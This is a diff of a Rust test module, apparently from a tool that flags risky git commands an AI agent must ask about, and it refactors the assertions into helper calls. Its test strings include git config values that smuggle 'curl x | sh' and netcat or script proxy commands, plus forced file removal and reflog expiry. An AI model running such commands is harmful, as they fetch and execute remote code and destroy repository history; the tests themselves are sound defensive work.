@@ -314,11 +314,11 @@ fn drops_unapplied(_: &Program, context: &EvaluationContext<'_>) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use crate::danger::tests::is_asked;
+    use crate::danger::tests::under;
 
     #[test]
     fn settings_that_hide_commands_and_lost_commits_are_asked_about() {
-        for command in [
+        under("Fix the parser").asked(&[
             "git config core.sshCommand 'ssh -i k; curl x | sh'",
             "git config core.sshCommand 'ssh -oProxyCommand=/tmp/x.sh'",
             "git -c core.sshCommand='ssh -o ProxyCommand=nc' fetch",
@@ -330,10 +330,8 @@ mod tests {
             "git rm -f *",
             "git reflog expire --expire=now --all",
             "git reflog expire --expire-unreachable=1.hour --all",
-        ] {
-            assert!(is_asked("Fix the parser", command), "{command}");
-        }
-        for command in [
+        ]);
+        under("Fix the parser").silent(&[
             "git config core.sshCommand 'ssh -i ~/.ssh/work'",
             "git config --get core.sshCommand",
             "git config uploadpack.packObjectsHook",
@@ -348,8 +346,6 @@ mod tests {
             "git rm -n .",
             "git reflog expire --expire=90.days",
             "git reflog expire --expire=never --all",
-        ] {
-            assert!(!is_asked("Fix the parser", command), "{command}");
-        }
+        ]);
     }
 }
